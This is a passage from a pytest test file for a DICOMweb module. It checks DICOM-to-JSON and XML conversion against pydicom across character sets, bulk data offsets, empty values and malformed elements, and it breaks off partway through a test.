"""Tests for dicomweb_wsgi.dicomjson: DICOM JSON (PS3.18 Annex F) and Native DICOM Model XML.

pydicom's own ``Dataset.to_json_dict`` serves as an independent oracle. Where the two differ for
a reason the standard gives, ``_normalize`` removes the difference; each rule there says why.
"""
from __future__ import annotations

import base64
import io
import itertools
import json
import math
import re
import struct
import time
import warnings
import xml.etree.ElementTree as ET
from array import array
from pathlib import Path
from typing import Any

import pydicom
import pytest
from pydicom.data import get_charset_files, get_testdata_file
from pydicom.dataelem import DataElement, RawDataElement
from pydicom.dataset import Dataset, FileMetaDataset
from pydicom.sequence import Sequence
from pydicom.tag import BaseTag
from pydicom.uid import (
    DeflatedExplicitVRLittleEndian,
    ExplicitVRBigEndian,
    ExplicitVRLittleEndian,
    ImplicitVRLittleEndian,
    generate_uid,
)

from dicomweb_wsgi.dicomjson import (
    BASE_PLACEHOLDER,
    XML_NAMESPACE,
    BulkRef,
    dataset_to_json,
    dumps,
    json_to_dataset,
    json_to_xml,
    select_attributes,
    xml_to_json,
)
from dicomweb_wsgi.errors import BadRequest

NS = "{" + XML_NAMESPACE + "}"
PREFIX = BASE_PLACEHOLDER + "/studies/1/series/2/instances/3/bulkdata"

TEST_FILES = [
    "CT_small.dcm", "MR_small.dcm", "JPEG2000.dcm", "image_dfl.dcm", "MR_small_bigendian.dcm",
    "MR_small_implicit.dcm", "rtplan.dcm", "nested_priv_SQ.dcm", "test-SR.dcm",
    "waveform_ecg.dcm", "rtdose_expb.dcm", "examples_overlay.dcm", "reportsi.dcm",
    "UN_sequence.dcm", "priv_SQ.dcm",
]
CHARSET_FILES = [
    "chrJapMulti.dcm", "chrGerm.dcm", "chrH31.dcm", "chrH32.dcm", "chrX1.dcm", "chrX2.dcm",
    "chrGreek.dcm", "chrRuss.dcm", "chrSQEncoding.dcm", "chrSQEncoding1.dcm", "chrI2.dcm",
    "chrKoreanMulti.dcm", "chrArab.dcm", "chrHbrw.dcm", "chrFrenMulti.dcm",
]
ALL_FILES = TEST_FILES + CHARSET_FILES
BIG_ENDIAN_FILES = {"MR_small_bigendian.dcm", "rtdose_expb.dcm"}


def _path(name: str) -> str:
    if name.startswith("chr"):
        return get_charset_files(name)[0]
    path = get_testdata_file(name)
    assert path, name
    return path


def _read(name: str, defer: int | None = 1024) -> Dataset:
    return pydicom.dcmread(_path(name), defer_size=defer, force=True)


def _walk(obj: dict[str, Any]):
    """Yield (key, attribute) for every attribute, nested ones included."""
    for key, attr in obj.items():
        yield key, attr
        if attr.get("vr") == "SQ":
            for item in attr.get("Value", []):
                yield from _walk(item)


# --------------------------------------------------------------------------- oracle helpers

_STRIPPED_VRS = {"AE", "AS", "CS", "DA", "DT", "TM", "UI", "UR", "DS", "IS", "SH", "LO"}
_SWAP = {"OW": "H", "OF": "I", "OL": "I", "OD": "Q", "OV": "Q"}


def _normalize(obj: dict[str, Any], swap: bool) -> dict[str, Any]:
    """Remove the justified differences between our JSON and pydicom's to_json_dict.

    ``swap`` byte-swaps OW/OF/OL/OD/OV InlineBinary (used on pydicom's output for big-endian
    files: it copies the file's byte order, we always write little endian).
    """
    out = {}
    for key, attr in obj.items():
        # PS3.18 F.2.2: group lengths are never included; pydicom keeps them.
        # PS3.10 7.2: Data Set Trailing Padding (FFFC,FFFC) carries nothing; we drop it.
        if key.endswith("0000") or key == "FFFCFFFC":
            continue
        attr = dict(attr)
        vr = attr["vr"]
        if vr in _SWAP and swap and "InlineBinary" in attr:
            data = array(_SWAP[vr])
            data.frombytes(base64.b64decode(attr["InlineBinary"]))
            data.byteswap()
            attr["InlineBinary"] = base64.b64encode(data.tobytes()).decode()
        if "Value" in attr:
            values = [_normalize_value(vr, v, swap) for v in attr["Value"]]
            # PS3.18 F.2.5: empty values are null, an attribute with no value has no "Value"
            if vr != "SQ" and all(v is None for v in values) or not values:
                del attr["Value"]
            else:
                attr["Value"] = values
        out[key] = attr
    return out


def _normalize_value(vr: str, value: Any, swap: bool) -> Any:
    if vr == "SQ":
        return _normalize(value, swap)
    if vr == "PN" and isinstance(value, dict):
        # PS3.18 F.2.2: only the non-empty component groups are encoded
        groups = {k: v for k, v in value.items() if v}
        return groups or None
    if isinstance(value, str):
        if vr in _STRIPPED_VRS:  # leading/trailing spaces are padding (PS3.5 Table 6.2-1)
            value = value.strip(" ")
        return value or None
    if isinstance(value, float) and value.is_integer():
        return int(value)  # DS "512": we write 512, pydicom 512.0; equal numbers
    return value


def _oracle(name: str) -> dict[str, Any]:
    full = pydicom.dcmread(_path(name), force=True)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # pydicom's validation warnings about the test files
        return full.to_json_dict(bulk_data_threshold=1 << 40)


# --------------------------------------------------------------------------- dataset_to_json


@pytest.mark.parametrize("name", ALL_FILES)
def test_dataset_to_json_test_files_match_pydicom_oracle(name: str) -> None:
    ours, refs = dataset_to_json(_read(name), bulk_prefix=None)
    assert refs == []
    # our InlineBinary is little endian; pydicom copies a big-endian file's byte order
    swap = name in BIG_ENDIAN_FILES
    assert _normalize(ours, False) == _normalize(_oracle(name), swap)


@pytest.mark.parametrize("name", ALL_FILES)
def test_dataset_to_json_raw_and_converted_elements_same_output(name: str) -> None:
    raw_ds = _read(name)
    converted = _read(name)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # pydicom's validation warnings about the test files
        for _ in converted.iterall():  # forces pydicom to convert (and load) every element
            pass
    assert dataset_to_json(raw_ds, bulk_prefix=PREFIX) == dataset_to_json(converted,
                                                                           bulk_prefix=PREFIX)


@pytest.mark.parametrize("name", ALL_FILES)
def test_dataset_to_json_any_file_output_is_strict_json(name: str) -> None:
    obj, _ = dataset_to_json(_read(name), bulk_prefix=PREFIX)
    text = dumps(obj)

    def reject(constant: str) -> None:
        raise AssertionError(f"non-JSON constant {constant}")

    assert json.loads(text, parse_constant=reject) == obj


@pytest.mark.parametrize("name", ["CT_small.dcm", "MR_small.dcm", "MR_small_implicit.dcm",
                                  "MR_small_bigendian.dcm", "rtdose_expb.dcm"])
def test_dataset_to_json_native_pixel_data_bulkref_points_at_pixel_bytes(name: str) -> None:
    path = _path(name)
    obj, refs = dataset_to_json(pydicom.dcmread(path, defer_size=1024), bulk_prefix=PREFIX)
    assert obj["7FE00010"] == {"vr": "OW", "BulkDataURI": PREFIX + "/7FE00010"}
    (ref,) = [r for r in refs if r.path == "7FE00010"]
    assert ref.vr == "OW"
    expected = pydicom.dcmread(path).PixelData  # stored byte order, as the file holds it
    assert ref.length == len(expected)
    assert Path(path).read_bytes()[ref.offset:ref.offset + ref.length] == expected


def test_dataset_to_json_encapsulated_pixel_data_offset_at_first_item() -> None:
    path = _path("JPEG2000.dcm")
    obj, refs = dataset_to_json(pydicom.dcmread(path, defer_size=1024), bulk_prefix=PREFIX)
    (ref,) = [r for r in refs if r.path == "7FE00010"]
    assert obj["7FE00010"]["BulkDataURI"] == PREFIX + "/7FE00010"
    assert ref.vr == "OB" and ref.length is None
    data = Path(path).read_bytes()
    assert data[ref.offset:ref.offset + 4] == b"\xfe\xff\x00\xe0"  # (FFFE,E000) Item tag
    assert data[ref.offset - 4:ref.offset] == b"\xff\xff\xff\xff"  # undefined length


def test_dataset_to_json_deflated_file_offsets_none() -> None:
    ds = _read("image_dfl.dcm")
    assert ds.file_meta.TransferSyntaxUID == DeflatedExplicitVRLittleEndian
    obj, refs = dataset_to_json(ds, bulk_prefix=PREFIX)
    assert refs and all(r.offset is None for r in refs)
    (ref,) = [r for r in refs if r.path == "7FE00010"]
    assert ref.length == len(pydicom.dcmread(_path("image_dfl.dcm")).PixelData)
    assert obj["7FE00010"]["BulkDataURI"] == PREFIX + "/7FE00010"


def _nested_dataset(undef_outer: bool, undef_inner: bool, undef_items: bool) -> Dataset:
    ds = Dataset()
    ds.PatientName = "Doe^John"
    inner_item = Dataset()
    inner_item.add_new(0x00420011, "OB", bytes(range(256)) * 9)  # Encapsulated Document
    inner_item.add_new(0x0040A160, "UT", "some text")
    inner_item.is_undefined_length_sequence_item = undef_items
    outer_items = []
    for i in range(2):
        item = Dataset()
        item.add_new(0x0040A010, "CS", "CONTAINS")
        item.add_new(0x00660023, "OW", bytes([i + 1]) * 3000)
        item.add_new(0x0040A730, "SQ", Sequence([Dataset(), inner_item] if i else [inner_item]))
        item[0x0040A730].is_undefined_length = undef_inner
        item.is_undefined_length_sequence_item = undef_items
        outer_items.append(item)
    ds.add_new(0x0040A730, "SQ", Sequence(outer_items))
    ds[0x0040A730].is_undefined_length = undef_outer
    ds.add_new(0x7FE00010, "OW", b"\x01\x02" * 100)
    return ds


def _save(ds: Dataset, path: Path, transfer_syntax: str) -> None:
    ds.file_meta = FileMetaDataset()
    ds.file_meta.TransferSyntaxUID = transfer_syntax
    ds.file_meta.MediaStorageSOPClassUID = "1.2.840.10008.5.1.4.1.1.7"
    ds.file_meta.MediaStorageSOPInstanceUID = generate_uid()
    ds.SOPClassUID = ds.file_meta.MediaStorageSOPClassUID
    ds.SOPInstanceUID = ds.file_meta.MediaStorageSOPInstanceUID
    ds.save_as(path, enforce_file_format=True)


def _value_at(ds: Dataset, path: str) -> bytes:
    parts = path.split("/")
    for i in range(0, len(parts) - 1, 2):
        ds = ds[int(parts[i], 16)].value[int(parts[i + 1])]
    return ds[int(parts[-1], 16)].value


@pytest.mark.parametrize("transfer_syntax", [ExplicitVRLittleEndian, ImplicitVRLittleEndian,
                                             ExplicitVRBigEndian], ids=["evrle", "ivrle", "evrbe"])
@pytest.mark.parametrize("lengths", list(itertools.product([False, True], repeat=3)),
                         ids=lambda c: "".join("U" if x else "D" for x in c))
def test_dataset_to_json_nested_bulk_paths_and_offsets_match_file(
    tmp_path: Path, transfer_syntax: str, lengths: tuple[bool, bool, bool]
) -> None:
    path = tmp_path / "nested.dcm"
    _save(_nested_dataset(*lengths), path, transfer_syntax)
    data = path.read_bytes()
    full = pydicom.dcmread(path)
    # the sequence really was written with the length form asked for
    top = pydicom.dcmread(path).get_item(0x0040A730, keep_deferred=True)
    assert isinstance(top, DataElement) == lengths[0]
    for defer in (None, 512):
        obj, refs = dataset_to_json(pydicom.dcmread(path, defer_size=defer), bulk_prefix=PREFIX)
        assert [r.path for r in refs] == [
            "0040A730/0/0040A730/0/00420011", "0040A730/0/00660023",
            "0040A730/1/0040A730/1/00420011", "0040A730/1/00660023", "7FE00010",
        ]
        for ref in refs:
            value = _value_at(full, ref.path)
            assert ref.length == len(value)
            assert data[ref.offset:ref.offset + ref.length] == value, ref
        inner = obj["0040A730"]["Value"][1]["0040A730"]["Value"]
        assert inner[0] == {}  # PS3.18 F.2.5: an empty item is an empty object
        assert inner[1]["00420011"] == {
            "vr": "OB", "BulkDataURI": PREFIX + "/0040A730/1/0040A730/1/00420011"}
        assert inner[1]["0040A160"] == {"vr": "UT", "Value": ["some text"]}


def test_dataset_to_json_waveform_nested_bulk_uri_names_item() -> None:
    obj, refs = dataset_to_json(_read("waveform_ecg.dcm"), bulk_prefix=PREFIX)
    first = obj["54000100"]["Value"][0]["54001010"]
    assert first == {"vr": "OW", "BulkDataURI": PREFIX + "/54000100/0/54001010"}
    assert {r.path for r in refs} == {"54000100/0/54001010", "54000100/1/54001010"}


def test_dataset_to_json_in_memory_dataset_offsets_none() -> None:
    ds = Dataset()
    ds.add_new(0x7FE00010, "OW", b"\0\1" * 10)
    ds.add_new(0x00420011, "OB", b"x" * 2000)
    obj, refs = dataset_to_json(ds, bulk_prefix=PREFIX)
    assert refs == [BulkRef("00420011", "OB", None, 2000), BulkRef("7FE00010", "OW", None, 20)]
    assert obj["00420011"]["BulkDataURI"] == PREFIX + "/00420011"


@pytest.mark.parametrize("size, bulk", [(0, False), (1, False), (1024, False), (1025, True)])
def test_dataset_to_json_binary_threshold_boundary_inline_or_bulk(size: int, bulk: bool) -> None:
    ds = Dataset()
    ds.add_new(0x00420011, "OB", b"\x07" * size)
    obj, refs = dataset_to_json(ds, bulk_prefix=PREFIX, threshold=1024)
    if size == 0:
        assert obj["00420011"] == {"vr": "OB"} and refs == []
    elif bulk:
        assert obj["00420011"] == {"vr": "OB", "BulkDataURI": PREFIX + "/00420011"}
        assert refs == [BulkRef("00420011", "OB", None, size)]
    else:
        assert obj["00420011"] == {"vr": "OB",
                                   "InlineBinary": base64.b64encode(b"\x07" * size).decode()}
        assert refs == []


@pytest.mark.parametrize("tag", [0x7FE00010, 0x7FE00008, 0x7FE00009])
def test_dataset_to_json_tiny_pixel_data_still_bulk(tag: int) -> None:
    ds = Dataset()
    ds.add_new(tag, {0x7FE00010: "OW", 0x7FE00008: "OF", 0x7FE00009: "OD"}[tag], b"\0" * 8)
    obj, refs = dataset_to_json(ds, bulk_prefix="p", threshold=1 << 20)
    key = "%08X" % tag
    assert obj[key]["BulkDataURI"] == "p/" + key
    assert refs[0].path == key and refs[0].length == 8


def test_dataset_to_json_no_bulk_prefix_everything_inline() -> None:
    path = _path("CT_small.dcm")
    obj, refs = dataset_to_json(pydicom.dcmread(path, defer_size=64), bulk_prefix=None)
    assert refs == []
    assert not [k for k, a in _walk(obj) if "BulkDataURI" in a]
    assert base64.b64decode(obj["7FE00010"]["InlineBinary"]) == pydicom.dcmread(path).PixelData


def test_dataset_to_json_short_binary_inline_base64() -> None:
    obj, refs = dataset_to_json(_read("waveform_ecg.dcm"), bulk_prefix=PREFIX)
    full = pydicom.dcmread(_path("waveform_ecg.dcm"))
    inline = {k: a for k, a in obj.items() if "InlineBinary" in a}
    assert inline
    for key, attr in inline.items():
        assert base64.b64decode(attr["InlineBinary"]) == full[int(key, 16)].value
    assert all(r.path not in inline for r in refs)


def test_dataset_to_json_big_endian_inline_ow_is_little_endian() -> None:
    path = _path("MR_small_bigendian.dcm")
    obj, _ = dataset_to_json(pydicom.dcmread(path), bulk_prefix=None)
    little = pydicom.dcmread(_path("MR_small.dcm")).PixelData
    assert base64.b64decode(obj["7FE00010"]["InlineBinary"]) == little


def test_dataset_to_json_group_0002_and_group_lengths_excluded() -> None:
    ds = _read("CT_small.dcm")
    assert "TransferSyntaxUID" in ds.file_meta
    ds.add_new(0x00080000, "UL", 1234)  # a group length inside the dataset
    ds.add_new(0x00020013, "SH", "stray meta")  # a meta element where it does not belong
    obj, _ = dataset_to_json(ds, bulk_prefix=PREFIX)
    assert not [k for k, _ in _walk(obj) if k.startswith("0002") or k.endswith("0000")]


@pytest.mark.parametrize("name", ["CT_small.dcm", "rtplan.dcm", "test-SR.dcm", "chrH31.dcm"])
def test_dataset_to_json_keys_uppercase_hex_ascending_at_every_level(name: str) -> None:
    obj, _ = dataset_to_json(_read(name), bulk_prefix=PREFIX)

    def check(dataset: dict[str, Any]) -> None:
        keys = list(dataset)
        assert keys == sorted(keys)
        assert all(re.fullmatch(r"[0-9A-F]{8}", k) for k in keys)
        for attr in dataset.values():
            assert list(attr)[0] == "vr"
            if attr["vr"] == "SQ":
                for item in attr.get("Value", []):
                    check(item)

    check(obj)


@pytest.mark.parametrize("name, expected", [
    ("chrH31.dcm", {"Alphabetic": "Yamada^Tarou", "Ideographic": "山田^太郎",
                    "Phonetic": "やまだ^たろう"}),
    ("chrH32.dcm", {"Alphabetic": "ﾔﾏﾀﾞ^ﾀﾛｳ", "Ideographic": "山田^太郎",
                    "Phonetic": "やまだ^たろう"}),
    ("chrJapMulti.dcm", {"Alphabetic": "やまだ^たろう"}),
    ("chrI2.dcm", {"Alphabetic": "Hong^Gildong", "Ideographic": "洪^吉洞", "Phonetic": "홍^길동"}),
    ("chrX1.dcm", {"Alphabetic": "Wang^XiaoDong", "Ideographic": "王^小東"}),
    ("chrX2.dcm", {"Alphabetic": "Wang^XiaoDong", "Ideographic": "王^小东"}),
    ("chrGerm.dcm", {"Alphabetic": "Äneas^Rüdiger"}),
    ("chrGreek.dcm", {"Alphabetic": "Διονυσιος"}),
    ("chrRuss.dcm", {"Alphabetic": "Люкceмбypг"}),
])
def test_dataset_to_json_person_name_charsets_give_component_groups(
    name: str, expected: dict[str, str]
) -> None:
    obj, _ = dataset_to_json(_read(name), bulk_prefix=None)
    assert obj["00100010"] == {"vr": "PN", "Value": [expected]}


def test_dataset_to_json_sequence_item_charset_overrides_parent() -> None:
    obj, _ = dataset_to_json(_read("chrSQEncoding1.dcm"), bulk_prefix=None)
    item = obj["00321064"]["Value"][0]
    assert item["00100010"]["Value"][0] == {
        "Alphabetic": "ﾔﾏﾀﾞ^ﾀﾛｳ", "Ideographic": "山田^太郎", "Phonetic": "やまだ^たろう"}


def test_dataset_to_json_iso2022_japanese_written_in_code_round_trips(tmp_path: Path) -> None:
    ds = Dataset()
    ds.SpecificCharacterSet = ["", "ISO 2022 IR 87"]
    ds.PatientName = "Yamada^Tarou=山田^太郎=やまだ^たろう"
    ds.InstitutionName = "山田病院"
    path = tmp_path / "jp.dcm"
    _save(ds, path, ExplicitVRLittleEndian)
    assert b"\x1b$B" in path.read_bytes()  # really stored as ISO 2022 escapes
    obj, _ = dataset_to_json(pydicom.dcmread(path), bulk_prefix=None)
    assert obj["00100010"]["Value"] == [{"Alphabetic": "Yamada^Tarou", "Ideographic": "山田^太郎",
                                         "Phonetic": "やまだ^たろう"}]
    assert obj["00080080"]["Value"] == ["山田病院"]


def test_dataset_to_json_at_values_eight_hex_digits(tmp_path: Path) -> None:
    ds = Dataset()
    ds.add_new(0x00209165, "AT", [0x00100020, 0x0020000D])
    ds.add_new(0x00209167, "AT", 0x7FE00010)
    expected = {"00209165": {"vr": "AT", "Value": ["00100020", "0020000D"]},
                "00209167": {"vr": "AT", "Value": ["7FE00010"]}}
    assert dataset_to_json(ds, bulk_prefix=None)[0] == expected
    for ts in (ExplicitVRLittleEndian, ExplicitVRBigEndian, ImplicitVRLittleEndian):
        path = tmp_path / "at.dcm"
        _save(ds, path, ts)
        obj, _ = dataset_to_json(pydicom.dcmread(path), bulk_prefix=None)
        assert {k: obj[k] for k in expected} == expected


def _raw(tag: int, vr: str | None, value: bytes, little: bool = True) -> RawDataElement:
    return RawDataElement(BaseTag(tag), vr, len(value), value, 0, vr is None, little)


def _raw_dataset(*elements: RawDataElement) -> Dataset:
    return Dataset({e.tag: e for e in elements})


@pytest.mark.parametrize("vr, text, expected", [
    ("DS", b"0.5 ", [0.5]),
    ("DS", b" 512", [512]),
    ("DS", b"-1.5e3\\+2\\.25", [-1500.0, 2, 0.25]),
    ("DS", b"1.5\\\\2 ", [1.5, None, 2]),
    ("IS", b"+007\\-3", [7, -3]),
    ("DS", b"abc", ["abc"]),
    ("DS", b"1,5 ", ["1,5"]),
    ("DS", b"1e400", ["1e400"]),
    ("DS", b"NaN ", ["NaN"]),
    ("IS", b"1.0 ", ["1.0"]),
    ("IS", b"1A", ["1A"]),
])
def test_dataset_to_json_ds_is_numbers_or_original_text(
    vr: str, text: bytes, expected: list[Any]
) -> None:
    obj, _ = dataset_to_json(_raw_dataset(_raw(0x00181050, vr, text)), bulk_prefix=None)
    assert obj["00181050"] == {"vr": vr, "Value": expected}
    assert [type(v) for v in obj["00181050"]["Value"]] == [type(v) for v in expected]


def test_dataset_to_json_ds_is_from_converted_elements_are_numbers() -> None:
    ds = Dataset()
    ds.PixelSpacing = ["0.5", "0.25"]
    ds.SliceThickness = 2.5
    ds.InstanceNumber = 12
    ds.SeriesNumber = "007"
    obj, _ = dataset_to_json(ds, bulk_prefix=None)
    assert obj["00280030"]["Value"] == [0.5, 0.25]
    assert obj["00180050"]["Value"] == [2.5]
    assert obj["00200013"]["Value"] == [12] and obj["00200011"]["Value"] == [7]


def test_dataset_to_json_empty_values_follow_f25() -> None:
    ds = Dataset()
    ds.PatientName = ""
    ds.PatientID = ""
    ds.ImageType = ["ORIGINAL", "", "AXIAL"]
    ds.Rows = None
    ds.add_new(0x00081140, "SQ", Sequence())
    ds.add_new(0x00081115, "SQ", Sequence([Dataset(), Dataset()]))
    ds.add_new(0x00420011, "OB", b"")
    obj, _ = dataset_to_json(ds, bulk_prefix=PREFIX)
    assert obj == {
        "00080008": {"vr": "CS", "Value": ["ORIGINAL", None, "AXIAL"]},
        "00081115": {"vr": "SQ", "Value": [{}, {}]},
        "00081140": {"vr": "SQ"},
        "00100010": {"vr": "PN"},
        "00100020": {"vr": "LO"},
        "00280010": {"vr": "US"},
        "00420011": {"vr": "OB"},
    }


def test_dataset_to_json_empty_raw_values_have_no_value_key() -> None:
    ds = _raw_dataset(_raw(0x00100010, "PN", b""), _raw(0x00100020, "LO", b"  "),
                      _raw(0x00280010, "US", b""), _raw(0x00080008, "CS", b"A\\\\B "))
    obj, _ = dataset_to_json(ds, bulk_prefix=None)
    assert obj == {"00080008": {"vr": "CS", "Value": ["A", None, "B"]},
                   "00100010": {"vr": "PN"}, "00100020": {"vr": "LO"},
                   "00280010": {"vr": "US"}}


def test_dataset_to_json_multi_valued_numbers_and_strings_are_lists() -> None:
    ds = Dataset()
    ds.ImagePositionPatient = [1, 2.5, -3]
    ds.add_new(0x00281101, "US", [4096, 0, 16])  # 'US or SS' in the dictionary
    ds.add_new(0x00189219, "SL", [-1, 2])
    ds.add_new(0x00720064, "FL", [0.5, 1.25])
    ds.add_new(0x00720074, "FD", [1.0e-10])
    ds.add_new(0x00080060, "CS", "MR")
    ds.add_new(0x00660040, "OL", b"\0" * 8)
    ds.add_new(0x00081195, "UI", "1.2.3")
    obj, _ = dataset_to_json(ds, bulk_prefix=None)
    assert obj["00200032"]["Value"] == [1, 2.5, -3]
    assert obj["00281101"] == {"vr": "US", "Value": [4096, 0, 16]}
    assert obj["00189219"]["Value"] == [-1, 2]
    assert obj["00720064"]["Value"] == [0.5, 1.25]
    assert obj["00720074"]["Value"] == [1.0e-10]
    assert obj["00080060"]["Value"] == ["MR"]


def test_dataset_to_json_fl_fd_non_finite_become_strings() -> None:
    values = [math.nan, math.inf, -math.inf, 1.5]
    raw = _raw_dataset(_raw(0x00720064, "FL", struct.pack("<4f", *values)),
                       _raw(0x00720074, "FD", struct.pack(">4d", *values), little=False))
    ds = Dataset()
    ds.add_new(0x00720064, "FL", values)
    ds.add_new(0x00720074, "FD", values)
    expected = ["NaN", "Infinity", "-Infinity", 1.5]
    for dataset in (raw, ds):
        obj, _ = dataset_to_json(dataset, bulk_prefix=None)
        assert obj["00720064"]["Value"] == expected and obj["00720074"]["Value"] == expected
        json.loads(dumps(obj))  # strict JSON still
        back = json_to_dataset(obj)
        assert math.isnan(back[0x00720064].value[0]) and back[0x00720074].value[1] == math.inf


def test_dataset_to_json_private_tags_with_creator_included() -> None:
    ds = Dataset()
    ds.PatientID = "P1"
    block = ds.private_block(0x0011, "ACME 1.0", create=True)
    block.add_new(0x01, "LO", "private text")
    block.add_new(0x02, "OB", b"\x01\x02")
    obj, _ = dataset_to_json(ds, bulk_prefix=None)
    assert obj["00110010"] == {"vr": "LO", "Value": ["ACME 1.0"]}
    assert obj["00111001"] == {"vr": "LO", "Value": ["private text"]}
    assert obj["00111002"] == {"vr": "OB", "InlineBinary": "AQI="}


def test_dataset_to_json_implicit_private_vr_from_private_dictionary(tmp_path: Path) -> None:
    ds = Dataset()
    block = ds.private_block(0x0019, "GEMS_ACQU_01", create=True)
    block.add_new(0x23, "DS", "1.5")  # (0019,xx23) Table Speed [mm/rot] in pydicom's dict
    block.add_new(0xEE, "LO", "unknown to the dictionary")
    path = tmp_path / "implicit.dcm"
    _save(ds, path, ImplicitVRLittleEndian)
    obj, _ = dataset_to_json(pydicom.dcmread(path), bulk_prefix=None)
    assert obj["00190010"] == {"vr": "LO", "Value": ["GEMS_ACQU_01"]}
    assert obj["00191023"] == {"vr": "DS", "Value": [1.5]}
    assert obj["001910EE"]["vr"] == "UN"  # PS3.5 6.2.2: an unknown private VR is UN
    assert base64.b64decode(obj["001910EE"]["InlineBinary"]).startswith(b"unknown")


@pytest.mark.parametrize("element, expected", [
    (_raw(0x00280010, "US", b"\x01\x02\x03"), {"vr": "UN", "InlineBinary": "AQID"}),
    (_raw(0x00209165, "AT", b"\x10\x00"), {"vr": "UN", "InlineBinary": "EAA="}),
    (_raw(0x00100020, "XX", b"ab"), {"vr": "UN", "InlineBinary": "YWI="}),
])
def test_dataset_to_json_undecodable_element_falls_back_to_un(
    element: RawDataElement, expected: dict[str, Any], caplog: pytest.LogCaptureFixture
) -> None:
    obj, _ = dataset_to_json(_raw_dataset(element, _raw(0x00100010, "PN", b"Doe^J")),
                             bulk_prefix=None)
    assert obj["%08X" % element.tag] == expected
    assert obj["00100010"] == {"vr": "PN", "Value": [{"Alphabetic": "Doe^J"}]}
    assert "written as UN" in caplog.text


def test_dataset_to_json_corrupt_sequence_does_not_raise() -> None:
    ds = _raw_dataset(_raw(0x00081140, "SQ", b"\xfe\xff\x00\xe0\xff\x00\x00\x00garbage!"),
                      _raw(0x00100020, "LO", b"ID1 "))
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        obj, _ = dataset_to_json(ds, bulk_prefix=None)
    assert obj["00081140"]["vr"] in ("SQ", "UN")
    assert obj["00100020"] == {"vr": "LO", "Value": ["ID1"]}


def test_dataset_to_json_undecodable_text_uses_replacement_character() -> None:
    ds = _raw_dataset(_raw(0x00080005, "CS", b"ISO_IR 192"),
                      _raw(0x00100010, "PN", b"M\xfcller^Hans"),
                      _raw(0x00081030, "LO", b"Knie \xff links"))
    obj, _ = dataset_to_json(ds, bulk_prefix=None)
    assert obj["00100010"]["Value"] == [{"Alphabetic": "M\ufffdller^Hans"}]
    assert obj["00081030"]["Value"] == ["Knie \ufffd links"]


def test_dataset_to_json_deferred_small_binary_is_loaded_inline() -> None:
    path = _path("waveform_ecg.dcm")
    obj, refs = dataset_to_json(pydicom.dcmread(path, defer_size=16), bulk_prefix=PREFIX,
                                threshold=1 << 20)
    full = pydicom.dcmread(path)
    item = obj["54000100"]["Value"][0]
    assert base64.b64decode(item["54001010"]["InlineBinary"]) == full.WaveformSequence[0][
        0x54001010].value
    assert [r.path for r in refs] == []


def test_dataset_to_json_placeholder_survives_and_is_replaceable() -> None:
    obj, _ = dataset_to_json(_read("CT_small.dcm"), bulk_prefix=PREFIX)
    text = dumps(obj).replace(BASE_PLACEHOLDER, "https://pacs.example/dicomweb")
    assert json.loads(text)["7FE00010"]["BulkDataURI"] == (
        "https://pacs.example/dicomweb/studies/1/series/2/instances/3/bulkdata/7FE00010")
    xml = json_to_xml(obj).replace(BASE_PLACEHOLDER.encode(), b"https://pacs.example/dicomweb")
    assert b'uri="https://pacs.example/dicomweb/studies/1/series/2/' in xml


# --------------------------------------------------------------------------- json_to_dataset


def _bulk_loader_from_file(path: str, refs: list[BulkRef], prefix: str = PREFIX):
    data = Path(path).read_bytes()
    table = {}
    for ref in refs:
        end = len(data) if ref.length is None else ref.offset + ref.length
        table[prefix + "/" + ref.path] = data[ref.offset:end]
    return table.__getitem__


@pytest.mark.parametrize("name", [n for n in ALL_FILES if n != "image_dfl.dcm"])
def test_json_to_dataset_round_trip_json_equal_and_bulk_restored(name: str) -> None:
    path = _path(name)
    obj, refs = dataset_to_json(pydicom.dcmread(path, defer_size=1024, force=True),
                                bulk_prefix=PREFIX)
    loader = _bulk_loader_from_file(path, [r for r in refs if r.length is not None])
    undefined = {PREFIX + "/" + r.path for r in refs if r.length is None}

    def load(uri: str) -> bytes:
        return b"\0\0" if uri in undefined else loader(uri)

    rebuilt = json_to_dataset(obj, load)
    assert dataset_to_json(rebuilt, bulk_prefix=PREFIX)[0] == obj
    full = pydicom.dcmread(path, force=True)
    for ref in refs:
        if ref.length is not None:
            assert _value_at(rebuilt, ref.path) == _value_at(full, ref.path)


@pytest.mark.parametrize("name", ALL_FILES)
def test_json_to_dataset_written_file_reads_back_to_same_json(name: str) -> None:
    obj, _ = dataset_to_json(_read(name), bulk_prefix=None)
    rebuilt = json_to_dataset(obj)
    rebuilt.file_meta = FileMetaDataset()
    rebuilt.file_meta.TransferSyntaxUID = ExplicitVRLittleEndian
    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # e.g. badly formed IS values kept verbatim
        pydicom.dcmwrite(buffer, rebuilt, enforce_file_format=False)
    buffer.seek(0)
    again = pydicom.dcmread(buffer, force=True)
    assert dataset_to_json(again, bulk_prefix=None)[0] == obj


def test_json_to_dataset_client_metadata_becomes_typed_dataset() -> None:
    obj = {
        "00080005": {"vr": "CS", "Value": ["ISO_IR 192"]},
        "00080008": {"vr": "CS", "Value": ["DERIVED", None, "AXIAL"]},
        "00100010": {"vr": "PN", "Value": [{"Alphabetic": "Yamada^Tarou",
                                            "Ideographic": "山田^太郎"}]},
        "00180050": {"vr": "DS", "Value": [2.5]},
        "00200013": {"vr": "IS", "Value": [7]},
        "00209165": {"vr": "AT", "Value": ["00100020"]},
        "00280010": {"vr": "US", "Value": [2]},
        "00280030": {"vr": "DS", "Value": [0.30000000000000004, "0.5"]},
        "0040A730": {"vr": "SQ", "Value": [{"0040A010": {"vr": "CS", "Value": ["CONTAINS"]}},
                                           {}]},
        "7FE00010": {"vr": "OW", "BulkDataURI": "cid:pixels"},
    }
    ds = json_to_dataset(obj, {"cid:pixels": b"\x01\x00\x02\x00"}.__getitem__)
    assert ds.PatientName == "Yamada^Tarou=山田^太郎"
    assert ds.ImageType == ["DERIVED", "", "AXIAL"]
    assert ds.SliceThickness == 2.5 and ds.InstanceNumber == 7
    assert ds[0x00209165].value == 0x00100020
    assert ds.Rows == 2 and ds.PixelData == b"\x01\x00\x02\x00"
    assert len(str(ds.PixelSpacing[0])) <= 16 and float(ds.PixelSpacing[0]) == pytest.approx(0.3)
    assert ds[0x0040A730].value[0].RelationshipType == "CONTAINS"
    assert len(ds[0x0040A730].value[1]) == 0


def test_json_to_dataset_group_0002_goes_to_file_meta() -> None:
    ds = json_to_dataset({
